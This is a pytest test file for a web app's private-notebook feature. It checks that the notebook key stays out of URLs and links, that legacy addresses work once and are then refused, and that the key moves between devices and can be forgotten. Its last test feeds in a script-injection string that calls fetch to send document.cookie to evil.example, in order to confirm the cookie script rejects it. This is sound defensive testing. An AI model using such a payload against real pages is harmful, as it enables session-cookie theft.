"""A notebook is not its address (AppTest): the key never enters the address or a link, an old ``nb=`` address
is honoured once and then refuses, and another device gets the notebook only with the key typed in.
(Reload, restart and a copied address in a real browser: tests/e2e/test_e2e_notebook.py.)"""

from __future__ import annotations

import pytest

from data_sources.readers.repository import open_repository
from tests.conftest import app_page, fill_new_column, notebook_of

TITLE = "My private column"
MOVED = "Your notebook's key was in this address"
REFUSED = "This address no longer opens a notebook"


def _notebook_with_a_column() -> str:
    import dataclasses

    from commentary.document.column import list_commentaries
    from commentary.document.model import Commentary
    from commentary.library.export import export_commentary

    item = next(c for c in list_commentaries() if isinstance(c, Commentary) and c.id == "example-2025-04-04-semis")
    body = export_commentary(dataclasses.replace(item, id="private-one", title=TITLE))
    notebook = "e" * 32
    open_repository().save_commentary(notebook, TITLE, body, author="Me")
    return notebook


def _titles(at) -> list[str]:
    return list(at.dataframe[0].value["title"])


def _texts(at) -> list[str]:
    return [e.value for kind in ("info", "warning", "error", "success") for e in getattr(at, kind)]


def _everything(at) -> str:
    """Every element's protobuf text (what the browser is sent)."""
    out: list[str] = []

    def walk(node: object) -> None:
        proto = getattr(node, "proto", None)
        if proto is not None:
            out.append(str(proto))
        for child in getattr(node, "children", {}).values():
            walk(child)

    walk(at._tree)
    return "\n".join(out)


def test_saving_keeps_the_key_out_of_the_address_and_out_of_links(seeded_store) -> None:
    at = app_page("new_column", "en")
    fill_new_column(at, "Nvidia will fall by year-end.", TITLE, "Me")
    at.checkbox(key="new_own0").check().run()
    at.button(key="new_save").click().run()
    assert at.success and not at.exception
    notebook = notebook_of(at)  # asserts "nb" is not in the address
    scripts = [h.proto.body for h in at.get("html")]
    assert any(f"cvd_notebook={notebook};" in s and "SameSite=Strict" in s for s in scripts)  # kept in the browser

    lib = app_page("library", "en", notebook=notebook)
    assert TITLE in _titles(lib) and "nb" not in lib.query_params
    assert all(notebook not in link for link in lib.dataframe[0].value["open"])
    assert notebook not in _everything(lib).replace(f"cvd_notebook={notebook}", "")  # only in the cookie script


def test_an_old_address_moves_the_key_out_once_then_refuses(seeded_store) -> None:
    notebook = _notebook_with_a_column()
    first = app_page(None, "en", nb=notebook)  # a bookmark from before: honoured, once
    assert not first.exception
    assert "nb" not in first.query_params
    assert any(t.startswith(MOVED) for t in _texts(first)), _texts(first)
    assert notebook_of(first) == notebook
    first.switch_page("pages/library.py")
    first.run()
    assert TITLE in _titles(first)
    assert first.get("expander") and any("Publish or download" in e.label for e in first.get("expander"))

    again = app_page(None, "en", nb=notebook)  # the same address in another browser
    assert "nb" not in again.query_params
    assert any(t.startswith(REFUSED) for t in _texts(again)), _texts(again)
    again.switch_page("pages/library.py")
    again.run()
    assert TITLE not in _titles(again) and "fx_notebook" not in again.session_state
    assert not any("Publish or download" in e.label for e in again.get("expander"))  # nothing to change either


@pytest.mark.parametrize("value", ["f" * 32, "not-a-key", "E" * 31])
def test_an_old_address_naming_no_notebook_opens_nothing(seeded_store, value: str) -> None:
    at = app_page(None, "en", nb=value)
    assert "nb" not in at.query_params and "fx_notebook" not in at.session_state
    assert any(t.startswith(REFUSED) for t in _texts(at))


def test_an_old_address_does_not_replace_this_browsers_notebook(seeded_store) -> None:
    notebook = _notebook_with_a_column()
    mine = "d" * 32
    at = app_page(None, "en", notebook=mine, nb=notebook)
    assert notebook_of(at) == mine
    assert any("already keeps another notebook" in t for t in _texts(at))
    later = app_page(None, "en", nb=notebook)  # not used up: its owner can still take it once
    assert notebook_of(later) == notebook


def _panel(at):
    at.session_state["nbk_open"] = True
    at.run()
    return at


def test_another_device_gets_the_notebook_only_with_its_key(seeded_store) -> None:
    notebook = _notebook_with_a_column()
    owner = _panel(app_page("library", "en", notebook=notebook))
    assert notebook not in [c.value for c in owner.code]  # not shown until asked for
    owner.toggle(key="nbk_show").set_value(True).run()
    assert notebook in [c.value for c in owner.code]

    other = _panel(app_page("library", "en"))
    assert TITLE not in _titles(other)
    other.text_input(key="nbk_typed").set_value("0" * 32).run()
    other.button(key="nbk_use").click().run()
    assert any(e.value.startswith("No notebook has that key") for e in other.error)
    assert "fx_notebook" not in other.session_state
    other.text_input(key="nbk_typed").set_value(notebook).run()
    other.button(key="nbk_use").click().run()
    assert not other.exception
    assert any(s.value == "This browser now keeps that notebook." for s in other.success)
    assert TITLE in _titles(other) and notebook_of(other) == notebook
    assert other.text_input(key="nbk_typed").value == ""  # the typed key is not kept in the box


def test_forgetting_the_notebook_on_this_device(seeded_store) -> None:
    notebook = _notebook_with_a_column()
    at = _panel(app_page("library", "ko", notebook=notebook))
    at.button(key="nbk_forget").click().run()
    assert "fx_notebook" not in at.session_state and TITLE not in _titles(at)
    scripts = [h.proto.body for h in at.get("html")]
    assert any("cvd_notebook=;" in s and "Max-Age=0" in s for s in scripts)  # the cookie is deleted too
    assert open_repository().list_commentaries(notebook)  # the notebook itself is kept, for its key


def test_the_cookie_script_takes_nothing_but_a_checked_key(seeded_store) -> None:
    hostile = "x'; fetch('http://evil.example/?c=' + document.cookie); '"
    at = app_page("library", "en", notebook=hostile)  # a session value that is not a key (it never should be)
    assert not at.exception
    scripts = [h.proto.body for h in at.get("html")]
    assert scripts and not any("evil" in s or "fetch" in s for s in scripts)
